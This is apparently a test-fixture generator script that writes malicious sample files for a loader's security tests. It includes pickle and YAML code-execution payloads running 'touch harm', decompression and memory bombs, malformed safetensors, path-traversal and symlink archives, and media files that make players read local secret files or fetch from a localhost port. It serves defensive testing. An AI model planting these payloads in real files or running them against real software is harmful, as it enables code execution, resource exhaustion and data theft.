"""Writes the files of this folder anew: the smallest of each format that does harm, or takes all memory, in programs that trust what they read.

    python3 make.py

Where one runs something, that is `touch harm`; where one fetches something, it is from port 49871 of this machine, or from secret.mp4 and
secret.txt beside it. AttackTests reads each file as TinySora does, and shows with Python and ffmpeg that some of them do harm elsewhere.
"""
import gzip
import io
import os
import pickle
import struct
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ADDRESS = "http://127.0.0.1:49871"
GIF = bytes.fromhex("47494638396101000100800000000000ffffff2c00000000010001000002024401003b")


class Runs:
    def __reduce__(self):
        return os.system, ("touch harm",)


def write(name, content):
    with open(os.path.join(HERE, name), "wb") as file:
        file.write(content if isinstance(content, bytes) else content.encode())


def zipped(*entries, method=zipfile.ZIP_STORED, link=None):
    bytes_ = io.BytesIO()
    with zipfile.ZipFile(bytes_, "w", method) as archive:
        for name, content in entries:
            info = zipfile.ZipInfo(name, (2000, 1, 1, 0, 0, 0))
            info.compress_type = method
            info.external_attr = (0o120777 if name == link else 0o100644) << 16
            archive.writestr(info, content)
    return bytes_.getvalue()


def tarred(*entries):
    bytes_ = io.BytesIO()
    with tarfile.open(fileobj=bytes_, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, kind, content in entries:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = content.decode() if kind != tarfile.REGTYPE else ""
            info.size = len(content) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(content))
    return gzip.compress(bytes_.getvalue(), mtime=0)


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def safetensors(header, data=b""):
    return struct.pack("<Q", len(header)) + header.encode() + data


def npy(header, data=b""):
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def atom(kind, *content):
    content = b"".join(content)
    return struct.pack(">I", 8 + len(content)) + kind + content


def reference_movie(path):
    """A QuickTime film of one frame that lies in another file, which a data reference names."""
    alias = (struct.pack(">8xHHH", 0, 2, 0) + bytes([3]) + b"abc".ljust(27, b"\0") + bytes(12)
             + bytes([len(path)]) + path.encode().ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 0, 0) + bytes(16)
             + struct.pack(">HH", 2, len(path)) + path.encode() + b"\0" * (len(path) % 2) + struct.pack(">HH", 0xFFFF, 0))
    entry = struct.pack(">6xH16xHHIIIH32shH", 1, 16, 16, 72 << 16, 72 << 16, 0, 1, b"", 24, 0xFFFF)
    table = atom(b"stbl", atom(b"stsd", struct.pack(">II", 0, 1), atom(b"raw ", entry)), atom(b"stts", struct.pack(">IIII", 0, 1, 1, 1000)),
                 atom(b"stsc", struct.pack(">IIIII", 0, 1, 1, 1, 1)), atom(b"stsz", struct.pack(">III", 0, 768, 1)),
                 atom(b"stco", struct.pack(">III", 0, 1, 0)))
    media = atom(b"mdia", atom(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 1000, 1000, 0, 0)),
                 atom(b"hdlr", struct.pack(">I4s4s13x", 0, b"mhlr", b"vide")),
                 atom(b"minf", atom(b"vmhd", bytes([0, 0, 0, 1]) + bytes(8)),
                      atom(b"dinf", atom(b"dref", struct.pack(">II", 0, 1), atom(b"alis", alias))), table))
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    track = atom(b"trak", atom(b"tkhd", struct.pack(">IIIIII8xHHHH", 15, 0, 0, 1, 0, 1000, 0, 0, 0, 0), matrix, struct.pack(">II", 16 << 16, 16 << 16)), media)
    return atom(b"ftyp", b"qt  \0\0\0\0qt  ") + atom(
        b"moov", atom(b"mvhd", struct.pack(">IIIIIIH10x", 0, 0, 0, 1000, 1000, 1 << 16, 256), matrix, bytes(24), struct.pack(">I", 2)), track)


code = pickle.dumps({"weight": Runs()}, protocol=2)

# Programs in weights.
write("code.pt", zipped(("archive/data.pkl", code), ("archive/version", b"3\n")))
legacy = [pickle.dumps(value, protocol=2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "protocol_version": 1001})]
write("code-before-2020.pt", b"".join(legacy) + code)
write("code.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pickle.dumps([Runs()], protocol=2)))

# More than any memory holds.
write("bomb.pt", zipped(("archive/data.pkl", b"\x80\x02" + b"(" * 1_000_000), method=zipfile.ZIP_DEFLATED))
write("bomb.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4611686018427387904, 4), }"))
write("bomb.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 200_000, 200_000, 8, 6, 0, 0, 0))
      + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b""))
write("pixels.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16_000, 16_000, 8, 6, 0, 0, 0))
      + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b""))
write("bomb.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00" + GIF[19:])
write("bomb.zip", zipped(("a.gif", GIF), ("b.txt", bytes(20 << 20)), method=zipfile.ZIP_DEFLATED))
write("bomb.yaml", "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(12)))
write("deep.yaml", "model: " + "[" * 100_000)
write("deep.json", "[" * 100_000)

# Tensors that lie in one another, beyond the end, or nowhere.
write("overlap.safetensors", safetensors(
    '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}', bytes(12)))
write("beyond.safetensors", safetensors('{"a":{"dtype":"F32","shape":[4611686018427387905],"data_offsets":[0,4]}}', bytes(4)))
write("header.safetensors", struct.pack("<Q", 0x7FFFFFFFFFFFFFF8) + b"{}")
write("deep.safetensors", safetensors('{"a":' * 100_000))

# Out of the folder.
write("escape.zip", zipped(("a.gif", GIF), ("../harm.gif", GIF)))
write("absolute.zip", zipped(("a.gif", GIF), ("/tmp/harm.gif", GIF)))
write("link.zip", zipped(("a.gif", GIF), ("b.gif", b"secret.txt"), link="b.gif"))
write("escape.tar.gz", tarred(("a.gif", tarfile.REGTYPE, GIF), ("../harm.gif", tarfile.REGTYPE, GIF)))
write("link.tar.gz", tarred(("folder", tarfile.SYMTYPE, b".."), ("folder/harm.gif", tarfile.REGTYPE, GIF)))
write("hard-link.tar.gz", tarred(("b.txt", tarfile.LNKTYPE, b"../secret.txt")))

# Films that are lists of others.
write("playlist.mp4", f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{ADDRESS}/a.ts\n#EXT-X-ENDLIST\n")
write("list.mp4", "ffconcat version 1.0\nfile secret.mp4\n")
write("session.mp4", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 49871 RTP/AVP 26\n")
write("reference.mov", reference_movie("secret.txt"))

# Programs and types in a configuration.
write("code.yaml", "model: !!python/object/apply:os.system ['touch harm']\n")
